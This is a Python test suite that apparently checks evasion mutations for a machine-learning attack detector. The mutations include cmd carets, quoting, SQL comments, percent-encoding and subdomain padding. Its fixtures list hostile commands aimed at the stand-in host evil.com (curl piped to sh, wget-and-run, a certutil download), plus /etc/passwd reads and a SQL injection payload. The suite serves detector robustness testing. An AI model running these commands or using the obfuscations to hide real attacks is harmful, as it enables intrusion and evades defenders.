"""A mutation must leave what an attack does as it was: readers of the same language see the same."""

import ntpath
import re
import shlex
from pathlib import Path
from urllib.parse import parse_qsl, unquote, urlsplit

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from phantom_ml.data.schema import ColumnKind
from phantom_ml.errors import UnknownName
from phantom_ml.explain.evasion import mutations
from phantom_ml.explain.evasion.mutation import MAX_BYTES
from phantom_ml.features.parsing.hosts import split_hosts
from tests.explain.evasion.readers import of_cmd, resource, sql_words, windows_arguments
from tests.features.columns.made import HOSTILE

NAMES = mutations.names()
BENIGN = pl.Series(["http://www.bank.de/a b?c=d&e#f", "/index.html", None, "news & 'more' -- ü"])
SEEDS = st.integers(0, 50)
#: Many texts an example: a call costs more than a text.
free = settings(max_examples=8, deadline=None)

URLS = [
    "http://evil.co.uk/a/b.php?x=1&y=%41#f",
    "HTTPS://User:Pw@login.Evil.com:8443/a//b/../c;d=e/?q=http://x.y/",
    "http://evil.com",
    "http://10.0.0.1/login/",
    "http://user.github.io/pay/",
    "/wp-login.php?a=b",
    "ftp://files.evil.org/x/y/z",
]
LINES = [
    r"powershell.exe -NoProfile -Enc SQBFAFgAIAAoAE4A",
    r'"C:\Program Files\App\run.exe" -x "two words" plain \\srv\share\file.txt',
    r"C:\Windows\System32\net.exe group Administrators /domain",
    r"cmd.exe /c powershell -nop -w hidden & whoami /all",
    r"schtasks /create /tn Updater /tr C:\Temp\a.exe /sc onlogon",
    r'reg.exe add HKLM\Software\Run /v x /t REG_SZ /d "C:\a b.exe"',
    r"certutil -urlcache -split -f http://evil.com/a.exe C:\Temp\%USERNAME%.exe",
]
POSIX = [
    "curl -fsSL http://evil.com/a.sh -o /tmp/.x",
    "wget http://evil.com/x; chmod 777 x; ./x",
    "tar czf /tmp/a.tgz '/home/ann/my files' && scp /tmp/a.tgz u@h:/var/x",
    'bash -c "curl evil.com | sh"',
    "cat /etc/passwd | grep root",
    "sudo python3 /opt/x.py --name=a\\ b",
]
SQL = "1' union all select null,concat(0x71,0x62) from users where 1=1-- "


def changed(name: str, *texts: str, seed: int = 0, benign: pl.Series = BENIGN) -> list[str]:
    return mutations.get(name).change(pl.Series(texts, dtype=pl.String), seed, benign).to_list()


def of_kind(kind: ColumnKind) -> list[str]:
    return [m.name for m in mutations if kind in m.kinds]


signs = st.text(st.sampled_from("aZ9 /\\.:?&=#%^\"'`$-@|<>()[]!;,\t\n\r\0é\u3002\U0001f600"))
pieces = st.sampled_from([*URLS, *LINES, *POSIX, SQL, "<script>", "GET /x HTTP/1.1", "cmd /c "])
hostile = st.lists(st.none() | signs | st.tuples(pieces, signs).map("".join), max_size=40)


@pytest.mark.parametrize("name", NAMES)
@free
@given(texts=hostile, seed=SEEDS)
def test_any_text_comes_back_row_for_row_with_its_nulls(name, texts, seed):
    text = pl.Series(texts, dtype=pl.String)
    after = mutations.get(name).change(text, seed, BENIGN)
    assert after.is_null().to_list() == [t is None for t in texts]


@pytest.mark.parametrize("name", NAMES)
def test_hostile_cells_come_back_row_for_row(name):
    assert len(changed(name, *HOSTILE)) == len(HOSTILE)


@pytest.mark.parametrize("name", NAMES)
def test_the_series_that_is_given_stays_as_it_was(name):
    text = pl.Series([*URLS, *LINES, SQL, None])
    before = text.to_list()
    mutations.get(name).change(text, 1, BENIGN)
    assert text.to_list() == before


@pytest.mark.parametrize("name", NAMES)
def test_the_same_seed_writes_the_same(name):
    texts = [*URLS, *LINES, *POSIX, SQL]
    assert changed(name, *texts, seed=5) == changed(name, *texts, seed=5)


@pytest.mark.parametrize("name", NAMES)
def test_a_cell_that_is_very_long_is_left(name):
    long = "http://evil.com/" + "a/" * MAX_BYTES
    assert changed(name, long) == [long]


@pytest.mark.parametrize("name", NAMES)
def test_a_mutation_says_what_it_does_and_why_it_works(name):
    found = mutations.get(name)
    assert found.kinds
    assert len(found.does) > 20
    assert re.search(r"RFC|POSIX|Microsoft|Bohannon|SQL|WHATWG|nginx", found.works_because)


def test_the_page_tells_of_every_mutation_as_it_is():
    page = (Path(__file__).parents[3] / "docs" / "threats.md").read_text()
    told = re.findall(
        r"^\| `(\w+)`(?: \((T[\d.]+)\))? \| ([\w, ]+) \| (.*) \|$", page, re.MULTILINE
    )
    own = [(m.name, m.technique or "", ", ".join(sorted(m.kinds)), m.does) for m in mutations]
    assert told == own


def test_an_unknown_mutation_is_named_with_the_nearest():
    with pytest.raises(UnknownName, match="carets"):
        mutations.get("caretz")


# URLs and hosts

one_url = st.one_of(
    st.sampled_from(URLS),
    st.builds(
        "{}://{}{}/{}{}".format,
        st.sampled_from(["http", "https"]),
        st.sampled_from(["", "www.", "a.b-c."]),
        st.sampled_from(["evil.com", "bank.co.uk", "x.duckdns.org", "192.0.2.7", "localhost"]),
        st.text(st.sampled_from("abC1/.%-_~+"), max_size=20),
        st.sampled_from(["", "?q=1", "?", "?a=b&c=d%2Fe#top", "#x"]),
    ),
)
url_texts = st.lists(one_url, min_size=1, max_size=30)
SAME_PLACE = ["dot_segments", "double_slashes", "host_case", "percent_encoding", "root_dot"]


@pytest.mark.parametrize("name", SAME_PLACE)
@free
@given(urls=url_texts, seed=SEEDS)
def test_the_url_still_names_the_same(name, urls, seed):
    after = changed(name, *urls, seed=seed)
    assert [resource(u) for u in after] == [resource(u) for u in urls]


@pytest.mark.parametrize("name", of_kind(ColumnKind.URL))
@free
@given(urls=url_texts, seed=SEEDS)
def test_the_url_stays_with_the_same_owner(name, urls, seed):
    before, after = (
        split_hosts(pl.Series([urlsplit(u).hostname or "" for u in texts]))
        for texts in (urls, changed(name, *urls, seed=seed))
    )
    assert before["registered"].to_list() == after["registered"].to_list()
    assert before["is_address"].to_list() == after["is_address"].to_list()


@pytest.mark.parametrize("name", of_kind(ColumnKind.URL))
@free
@given(urls=url_texts, seed=SEEDS)
def test_the_parameters_and_the_fragment_are_still_there(name, urls, seed):
    for before, after in zip(urls, changed(name, *urls, seed=seed), strict=True):
        own, now = (parse_qsl(urlsplit(u).query, keep_blank_values=True) for u in (before, after))
        assert now[: len(own)] == own
        assert urlsplit(after).fragment == urlsplit(before).fragment


@pytest.mark.parametrize("name", ["subdomain_padding", "benign_subdomain"])
@pytest.mark.parametrize(
    "host", ["http://10.0.0.1/login/", "http://user.github.io/pay/", "localhost"]
)
def test_only_an_owned_name_is_padded(name, host):
    assert changed(name, host) == [host]


def test_a_bare_host_is_padded_too():
    assert changed("subdomain_padding", "evil.com")[0].endswith(".evil.com")


def test_a_name_never_grows_too_long_for_dns():
    host = ".".join(["a" * 60] * 4) + ".com"
    assert changed("subdomain_padding", host) == [host]


def test_a_benign_host_stands_before_the_attackers_own():
    lender = pl.Series(["https://www.bank.de/x"])
    assert changed("benign_subdomain", "http://evil.com/y", benign=lender) == [
        "http://www.bank.de.evil.com/y"
    ]


@pytest.mark.parametrize("name", ["benign_subdomain", "user_agent_swap", "benign_text"])
def test_without_benign_rows_nothing_is_lent(name):
    assert changed(name, *URLS, benign=pl.Series([], dtype=pl.String)) == URLS


def test_a_benign_text_becomes_one_parameter():
    after = changed("benign_text", "http://evil.com/?a=1", benign=pl.Series(["x&y=z #w%41é"]))[0]
    assert parse_qsl(urlsplit(after).query) == [("a", "1"), ("utm_term", "x&y=z #w%41é")]


def test_a_file_name_is_no_host():
    assert changed("root_dot", "index.php?x=1") == ["index.php?x=1"]


def test_a_path_on_a_server_never_becomes_a_host():
    assert {u[:2] for s in range(20) for u in changed("double_slashes", "/a/b/c", seed=s)} == {"/a"}


# Payloads


def test_a_request_line_keeps_its_form():
    after = changed("junk_parameters", "GET /a?x=1 HTTP/1.1")[0]
    assert re.fullmatch(r"GET /a\?x=1(&\w+=\d+){3} HTTP/1\.1", after)


@free
@given(
    seed=SEEDS, values=st.lists(st.text(st.sampled_from("abc019/.%=&+"), max_size=20), max_size=30)
)
def test_an_encoded_payload_decodes_to_the_same(seed, values):
    texts = [f"id={value}" for value in values]
    after = changed("percent_encoding", *texts, seed=seed)
    assert [unquote(t) for t in after] == [unquote(t) for t in texts]


def test_what_was_decoded_already_is_not_encoded():
    assert changed("percent_encoding", "id=1' or 1=1") == ["id=1' or 1=1"]


@pytest.mark.parametrize("name", ["sql_case", "sql_comments"])
def test_sql_says_the_same(name):
    after = changed(name, SQL)[0]
    assert after != SQL
    assert sql_words(after) == sql_words(SQL)


@pytest.mark.parametrize("name", ["sql_case", "sql_comments"])
def test_prose_is_not_taken_for_sql(name):
    assert changed(name, "salt and pepper or oil by the case") == [
        "salt and pepper or oil by the case"
    ]


def test_a_benign_text_goes_behind_a_comment_that_ends_the_statement():
    assert changed("benign_text", SQL, benign=pl.Series(["ann\nlee"])) == [SQL + " ann lee"]


def test_tags_change_their_case_and_scripts_do_not():
    after = {s: changed("html_case", "<script>Alert(1)</script>", seed=s)[0] for s in range(5)}
    assert all(re.fullmatch(r"(?i:<script>)Alert\(1\)(?i:</script>)", t) for t in after.values())
    assert len(set(after.values())) > 1


def test_xml_is_left():
    assert changed("html_case", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')[0].startswith("<!DOC")
    assert changed("html_case", "<?xml?><a></a>") == ["<?xml?><a></a>"]


# Command lines

words = st.sampled_from(
    [
        "powershell", "-Enc", "SQBFAFgA", "/c", "C:\\Windows\\x.exe", '"a b"', "a\\ b", "x=1", "%PATH%",
        "http://evil.com/a", "'q r'", "^&", "&&", "|", "whoami", "-o", 'a"b c"d', "\\\\srv\\x", "name", "~ann",
    ]
)  # fmt: skip
programs = st.sampled_from(
    ["net.exe", '"C:\\P F\\x.exe"', "C:\\Windows\\reg.exe", "curl", "tasklist.exe"]
)
one_line = st.builds(lambda p, w: " ".join([p, *w]), programs, st.lists(words, max_size=8))
lines = st.lists(one_line | st.sampled_from([*LINES, *POSIX]), min_size=1, max_size=30)


@pytest.mark.parametrize("name", ["quotes", "blanks"])
@free
@given(texts=lines, seed=SEEDS)
def test_a_program_is_handed_the_same_arguments(name, texts, seed):
    after = changed(name, *texts, seed=seed)
    assert [windows_arguments(t) for t in after] == [windows_arguments(t) for t in texts]


@pytest.mark.parametrize("name", ["quotes", "blanks", "command_comment"])
@pytest.mark.parametrize("seed", range(3))
def test_a_unix_shell_reads_the_same(name, seed):
    before, after = (
        [shlex.split(line, comments=True) for line in texts]
        for texts in (POSIX, changed(name, *POSIX, seed=seed))
    )
    assert after == before


@free
@given(rests=st.lists(st.lists(words, min_size=1, max_size=6), max_size=30), seed=SEEDS)
def test_cmd_drops_the_carets(rests, seed):
    texts = [" ".join(["cmd.exe /c", *rest]) for rest in rests]
    after = changed("carets", *texts, seed=seed)
    assert [of_cmd(t) for t in after] == [of_cmd(t) for t in texts]


def test_carets_are_for_cmd_alone():
    others = [line for line in [*LINES, *POSIX] if not line.startswith("cmd")]
    assert changed("carets", *others) == others


def test_carets_go_into_a_command_in_quotes_only_where_cmd_takes_them_off():
    kept = r'cmd /c "C:\Program Files\x.exe"'
    after = changed("carets", kept, 'cmd /c "net user & whoami"')
    assert after[0] == kept
    assert after[1].count("^") > 2


@pytest.mark.parametrize(
    "line", ["cmd /c for %i in (a b) do echo %i", "cmd /v:on /c set x=a&echo !x!"]
)
def test_words_that_a_shell_knows_only_as_they_are_stay(line):
    assert changed("carets", line) == [line]
    assert changed("quotes", line) == [line]


@pytest.mark.parametrize("line", ["echo a  b", "rundll32 x.dll,Start a b", "export A=$HOME/x y"])
def test_lines_that_are_given_back_as_written_stay(line):
    assert changed("blanks", line) == [line]


@free
@given(texts=lines, seed=SEEDS)
def test_nothing_but_case_changes(texts, seed):
    after = changed("command_case", *texts, seed=seed)
    assert [t.lower() for t in after] == [t.lower() for t in texts]


def test_values_and_unix_programs_keep_their_case():
    after = changed("command_case", LINES[0], *POSIX, seed=1)
    assert after[0].endswith(" SQBFAFgAIAAoAE4A")
    assert after[1:] == POSIX


def test_paths_come_to_the_same_file():
    after = changed("path_noise", *LINES)
    assert after != LINES
    assert [a.replace(".\\", "") for a in after] == [line.replace(".\\", "") for line in LINES]
    assert ntpath.normpath(r"C:\.\Windows") == r"C:\Windows"


def test_unix_paths_come_to_the_same_file():
    assert changed("path_noise", "cat /etc/passwd ../x") == ["cat /./etc/./passwd .././x"]


def test_a_comment_of_cmd_ends_the_line():
    line = "cmd /c whoami /all"
    after = changed("command_comment", line, benign=pl.Series(["a & del %x% | b>c\\"]))[0]
    assert re.fullmatch(re.escape(line) + r" & rem [A-Za-z0-9 ._/:\\-]+[^\\ ]", after)
